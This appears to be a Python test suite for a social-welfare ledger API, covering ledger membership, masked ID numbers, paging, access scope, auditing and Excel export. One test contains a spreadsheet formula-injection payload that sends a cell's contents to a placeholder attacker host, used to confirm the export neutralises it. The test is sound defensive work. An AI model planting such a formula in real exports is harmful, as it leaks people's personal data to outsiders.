"""Ledgers (台账) over HTTP: who the built-in forms put on each, the columns a bureau reads, pages, the XLSX opened
again, scope, and bad input."""

from __future__ import annotations

import io
import uuid
from dataclasses import dataclass
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from factories import (District, assert_problem, economic_survey, headers_for, jpeg, make_district,
                       make_form_version, make_household, make_user, sha256_of, submission_body, upload)
from form_samples import id_number, sample
from server.models import AuditEvent, Household, LedgerEntry

ZONE = ZoneInfo("Asia/Shanghai")
LEDGER_FORMS = ("home_visit", "elderly_ledger", "child_file", "disability_ledger", "economic_survey")


def visit_times(days_ago: int) -> dict:
    """A visit `days_ago` days ago, 09:00 to 09:40 on the station's clock."""
    day = datetime.now(ZONE).date() - timedelta(days=days_ago)
    start = datetime(day.year, day.month, day.day, 9, 0, tzinfo=ZONE)
    return {"started_at": start.isoformat(), "finished_at": (start + timedelta(minutes=40)).isoformat()}


async def submit(client, headers: dict, household: Household, form: str, data: dict, days_ago: int = 0,
                 **extra) -> str:
    sid = str(uuid.uuid4())
    body = submission_body(household, data, form=form, **visit_times(days_ago)) | extra
    response = await client.put(f"/api/v1/submissions/{sid}", json=body, headers=headers)
    assert response.status_code == 201, response.text
    return sid


def elderly(**changes) -> dict:
    data = sample("elderly_ledger") | changes
    for elder in data["elders"]:
        elder.pop("id", None)  # a fresh member in every household
    return data


async def survey(client, headers: dict, **changes) -> dict:
    """A 家计调查 with its required photo, uploaded by the worker who sends it."""
    photo = jpeg()
    assert (await upload(client, headers, photo)).status_code == 201
    return economic_survey(str(uuid.uuid4())) | {"house_photos": [sha256_of(photo)]} | changes


def children() -> dict:
    data = sample("child_file")
    data.pop("photos")
    return data


@dataclass
class Station:
    """East township: an elder living alone and two children in east_a, a man with a mental disability in east_b;
    a 低保 household in west_a. Workers of east_a and west_a, a supervisor of east, the bureau of the county."""

    district: District
    households: dict[str, Household]
    worker: dict
    far_worker: dict
    supervisor: dict
    bureau: dict


@pytest.fixture
async def station(client, settings) -> Station:
    district = await make_district()
    for slug in LEDGER_FORMS:
        await make_form_version(slug)
    worker = await headers_for(settings, await make_user("worker", district.east_a, username="wang"))
    east_b_worker = await headers_for(settings, await make_user("worker", district.east_b, username="li"))
    far_worker = await headers_for(settings, await make_user("worker", district.west_a, username="zhao"))
    households = {
        "elder": await make_household(district.east_a),
        "children": await make_household(district.east_a),
        "disability": await make_household(district.east_b),
        "assistance": await make_household(district.west_a),
    }
    await submit(client, worker, households["elder"], "elderly_ledger", elderly(), days_ago=10)
    await submit(client, worker, households["children"], "child_file", children(), days_ago=5)
    await submit(client, east_b_worker, households["disability"], "disability_ledger", sample("disability_ledger"),
                 days_ago=20)
    await submit(client, far_worker, households["assistance"], "economic_survey", await survey(client, far_worker),
                 days_ago=100)
    return Station(district, households, worker, far_worker,
                   await headers_for(settings, await make_user("supervisor", district.east)),
                   await headers_for(settings, await make_user("bureau", district.county)))


async def ledger(client, headers: dict, kind: str, **params) -> list[dict]:
    response = await client.get(f"/api/v1/ledgers/{kind}", params=params, headers=headers)
    assert response.status_code == 200, response.text
    assert response.json()["next_cursor"] is None
    return response.json()["items"]


# --- Who is on which ledger, with which columns ---------------------------------------------------------------------

async def test_the_elderly_ledger_shows_what_the_elderly_form_recorded_with_labels_and_a_masked_id(client, station):
    [line] = await ledger(client, station.supervisor, "elderly")
    today = datetime.now(ZONE).date()
    visited = today - timedelta(days=10)
    number = id_number("430121", "19400605", "046")
    assert line["household"] == str(station.households["elder"].id) and line["member"]
    assert line["community"] == str(station.district.east_a.id) and line["community_name"] == "白竹亭社区"
    assert (line["name"], line["gender"], line["birth_date"]) == ("张秀英", "女", "1940-06-05")
    assert line["age"] == today.year - 1940 - ((today.month, today.day) < (6, 5))
    assert line["id_number"] == number[:6] + "********" + number[-4:]
    assert line["categories"] == "老年人、独居、低收入"
    assert (line["income_source"], line["family_structure"], line["health"], line["care"], line["risk_level"]) == (
        "养老金/退休金", "独居", "部分失能", "亲友邻里照料", "高")
    assert (line["carer"], line["carer_phone"]) == ("刘春花", "15116284590")
    assert line["visit_plan"] == "高风险老人，每周"
    assert line["last_visit_at"] == f"{visited.isoformat()}T09:40:00+08:00"
    assert line["days_since_visit"] == 10 and line["next_visit_on"] == (visited + timedelta(days=7)).isoformat()


async def test_the_children_ledger_lists_each_child_with_school_and_guardian(client, station):
    lines = await ledger(client, station.worker, "children")
    assert [line["name"] for line in lines] == ["陈思雨", "陈浩然"]
    first = lines[0]
    assert (first["categories"], first["school"], first["guardianship"]) == ("留守", "三多亭小学", "祖辈监护")
    assert (first["guardian"], first["guardian_relation"], first["guardian_phone"]) == (
        "陈德福", "祖父母/外祖父母", "13787065421")
    assert first["visit_plan"] == "困境儿童，每月" and first["family_structure"] == "隔代家庭"
    assert lines[1]["categories"] == "留守、残疾"


async def test_the_disability_ledger_takes_certificates_mental_disorders_and_disabled_members_of_surveys(client,
                                                                                                       station):
    lines = {line["name"]: line for line in await ledger(client, station.bureau, "disability")}
    assert set(lines) == {"赵志强", "陈浩然", "王建国"}  # the form's; a disabled child; a survey's 健康状况 残疾
    zhao = lines["赵志强"]
    assert (zhao["disability_type"], zhao["disability_level"], zhao["certificate"], zhao["mental_disorder"]) == (
        "精神残疾", "二级", True, True)
    assert (zhao["guardian"], zhao["care"], zhao["risk_level"]) == ("赵母", "家人照料", "1 级")
    assert zhao["visit_plan"] == "有风险的严重精神障碍患者，每两周"
    assert lines["王建国"]["disability_level"] == "二级" and lines["王建国"]["certificate"] is False
    assert lines["陈浩然"]["disability_type"] == "听力残疾"


async def test_the_assistance_ledger_lists_households_with_their_type_size_income_and_head(client, station):
    [line] = await ledger(client, station.bureau, "assistance")
    number = id_number("430102", "19580312", "124")
    assert line["member"] is None and line["household"] == str(station.households["assistance"].id)
    assert (line["head"], line["head_id_number"], line["assistance_type"]) == (
        "李桂兰", number[:6] + "********" + number[-4:], "最低生活保障（低保）")
    assert (line["household_size"], line["monthly_income"], line["address"]) == (2, 170, "凤凰社区 3 组 12 号")
    assert line["visit_plan"] == "低保家庭，每季度"


async def test_a_correction_that_drops_a_tag_takes_the_person_off_the_ledger(client, station):
    household = station.households["children"]
    data = children()
    original = await submit(client, station.worker, household, "child_file", data, days_ago=1)
    lines = await ledger(client, station.worker, "children")
    assert len(lines) == 4  # the second child_file named the children anew
    for child in data["children"]:
        child["tags"] = ["orphan"] if child["name"] == "陈思雨" else ["disability"]
    data["children"][1]["birth_date"] = "1990-01-01"  # an adult after all: off the children's ledger
    data["children"][1]["id_number"] = id_number("431224", "19900101", "015")
    await submit(client, station.worker, household, "child_file", data, days_ago=1, replaces=original)
    names = sorted((line["name"], line["categories"]) for line in await ledger(client, station.worker, "children"))
    assert names == [("陈思雨", "孤儿"), ("陈思雨", "留守"), ("陈浩然", "留守、残疾")]


async def test_a_child_leaves_the_ledger_on_the_18th_birthday(client, station):
    today = datetime.now(ZONE).date()
    entry = await LedgerEntry.filter(kind="children").order_by("created_at", "id").first()
    await LedgerEntry.filter(id=entry.id).update(birth_date=today.replace(year=today.year - 18) + timedelta(days=1))
    assert len(await ledger(client, station.worker, "children")) == 2
    await LedgerEntry.filter(id=entry.id).update(birth_date=today.replace(year=today.year - 18))
    assert len(await ledger(client, station.worker, "children")) == 1


async def test_ledgers_page_with_a_cursor(client, settings, station):
    for batch in range(6):
        data = await survey(client, station.worker)
        data["members"] = [data["members"][1] | {"name": f"成员{batch}-{n}",
                                                 "id_number": id_number("430102", "19600101", f"{batch}{n:02d}")}
                           for n in range(20)]
        data["household_size"] = 20  # the survey checks it against the members
        await submit(client, station.worker, await make_household(station.district.east_a), "economic_survey", data)
    seen, cursor = [], None
    while True:
        params = {"cursor": cursor} if cursor else {}
        page = (await client.get("/api/v1/ledgers/disability", params=params, headers=station.worker)).json()
        seen += [line["id"] for line in page["items"]]
        if not (cursor := page["next_cursor"]):
            break
    assert len(seen) == len(set(seen)) == 121  # 120 disabled members, and the disabled child


# --- Scope and bad input ------------------------------------------------------------------------------------------

async def test_a_worker_sees_only_the_people_of_their_communities(client, station):
    assert await ledger(client, station.worker, "disability") == [line for line in await ledger(
        client, station.worker, "disability") if line["community"] == str(station.district.east_a.id)]
    assert await ledger(client, station.worker, "assistance") == []
    assert [line["head"] for line in await ledger(client, station.far_worker, "assistance")] == ["李桂兰"]
    assert await ledger(client, station.far_worker, "elderly") == []


async def test_an_area_narrows_the_ledger(client, station):
    east_b = await ledger(client, station.supervisor, "disability", area=str(station.district.east_b.id))
    assert [line["name"] for line in east_b] == ["赵志强"]
    everything = await ledger(client, station.bureau, "disability", area=str(station.district.county.id))
    assert len(everything) == 3


async def test_an_area_outside_the_callers_scope_is_not_found(client, station):
    for path in ("/api/v1/ledgers/elderly", "/api/v1/ledgers/elderly.xlsx"):
        district = station.district
        for headers, area in ((station.worker, district.east_b.id), (station.supervisor, district.west.id),
                              (station.worker, district.east.id), (station.supervisor, uuid.uuid4())):
            assert_problem(await client.get(path, params={"area": str(area)}, headers=headers), 404)
        assert_problem(await client.get(path, params={"area": "east"}, headers=station.worker), 422, "/area")


async def test_an_unknown_ledger_is_not_found(client, station):
    for path in ("/api/v1/ledgers/orphans", "/api/v1/ledgers/orphans.xlsx", "/api/v1/ledgers/ELDERLY",
                 "/api/v1/ledgers/elderly.csv"):
        body = assert_problem(await client.get(path, headers=station.supervisor), 404)
        assert body["type"] == "/problems/ledger-not-found"


async def test_a_cursor_the_server_did_not_make_and_an_unknown_format_are_refused(client, station):
    for cursor in ("nonsense", "WyJ4Il0", "W10"):
        response = await client.get("/api/v1/ledgers/elderly", params={"cursor": cursor}, headers=station.worker)
        assert_problem(response, 422, "/cursor")
    response = await client.get("/api/v1/ledgers/elderly", params={"format": "pdf"}, headers=station.worker)
    assert_problem(response, 422, "/format")


async def test_providers_see_no_ledger(client, settings, station):
    provider = await headers_for(settings, await make_user("provider"))
    for path in ("/api/v1/ledgers/elderly", "/api/v1/ledgers/elderly.xlsx", "/api/v1/ledgers/nonsense"):
        assert_problem(await client.get(path, headers=provider), 403)


async def test_reading_a_ledger_is_audited_once_per_reading(client, station):
    await ledger(client, station.supervisor, "elderly", area=str(station.district.east_a.id))
    event = await AuditEvent.get(action="ledger.read")
    assert event.target_id == "elderly" and event.detail == {"area": str(station.district.east_a.id)}


# --- The workbook -------------------------------------------------------------------------------------------------

async def workbook(client, headers: dict, path: str, **params):
    response = await client.get(path, params=params, headers=headers)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response.headers["content-disposition"].startswith('attachment; filename="ledger-')
    return load_workbook(io.BytesIO(response.content)).active


async def test_the_xlsx_has_chinese_headers_a_frozen_header_real_dates_and_masked_ids(client, station):
    sheet = await workbook(client, station.supervisor, "/api/v1/ledgers/elderly.xlsx")
    rows = list(sheet.iter_rows())
    header = [c.value for c in rows[0]]
    assert header[:5] == ["姓名", "性别", "出生日期", "年龄", "身份证号"]
    assert {"社区（村）", "经济来源", "家庭结构", "健康状况", "照料情况", "风险等级", "最近走访", "距今天数"} <= set(header)
    assert sheet.title == "困难老年人台账" and sheet.freeze_panes == "A2"
    assert all(c.font.bold for c in rows[0])
    assert sheet.column_dimensions["E"].width >= 20 and sheet.column_dimensions["A"].width >= 8
    cells = dict(zip(header, rows[1]))
    assert cells["出生日期"].is_date and cells["出生日期"].value == datetime(1940, 6, 5)
    visited = datetime.now(ZONE).date() - timedelta(days=10)
    assert cells["最近走访"].is_date and cells["最近走访"].value == datetime(visited.year, visited.month, visited.day,
                                                                         9, 40)
    assert cells["下次走访"].is_date and cells["距今天数"].value == 10 and cells["年龄"].data_type == "n"
    number = id_number("430121", "19400605", "046")
    assert cells["身份证号"].value == number[:6] + "********" + number[-4:]
    assert not [c.coordinate for row in rows for c in row if c.data_type == "f"]


async def test_the_xlsx_keeps_a_name_that_reads_as_a_formula_as_text(client, station):
    hostile = '=HYPERLINK("http://evil.example/"&A1,"点击")'
    data = elderly()
    data["elders"][0]["name"] = hostile[:30]
    await submit(client, station.worker, station.households["children"], "elderly_ledger", data)
    sheet = await workbook(client, station.worker, "/api/v1/ledgers/elderly.xlsx")
    names = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    [cell] = [c for c in names if c.value == hostile[:30]]
    assert cell.data_type == "s" and cell.quotePrefix


async def test_the_xlsx_groups_lines_by_community_and_follows_scope(client, station):
    sheet = await workbook(client, station.supervisor, "/api/v1/ledgers/disability.xlsx")
    header = [c.value for c in next(sheet.iter_rows())]
    place = header.index("社区（村）")
    assert [(row[0].value, row[place].value) for row in sheet.iter_rows(min_row=2)] == [
        ("陈浩然", "白竹亭社区"), ("赵志强", "凌云社区")]
    far = await workbook(client, station.far_worker, "/api/v1/ledgers/disability.xlsx")
    assert [row[0].value for row in far.iter_rows(min_row=2)] == ["王建国"]
    empty = await workbook(client, station.far_worker, "/api/v1/ledgers/children", format="xlsx")
    assert [c.value for c in next(empty.iter_rows())][0] == "姓名" and empty.max_row == 1


async def test_exporting_a_ledger_is_audited(client, station):
    await workbook(client, station.bureau, "/api/v1/ledgers/assistance.xlsx", area=str(station.district.west.id))
    event = await AuditEvent.get(action="ledger.exported")
    assert event.target_id == "assistance" and event.detail == {"area": str(station.district.west.id),
                                                                "format": "xlsx"}
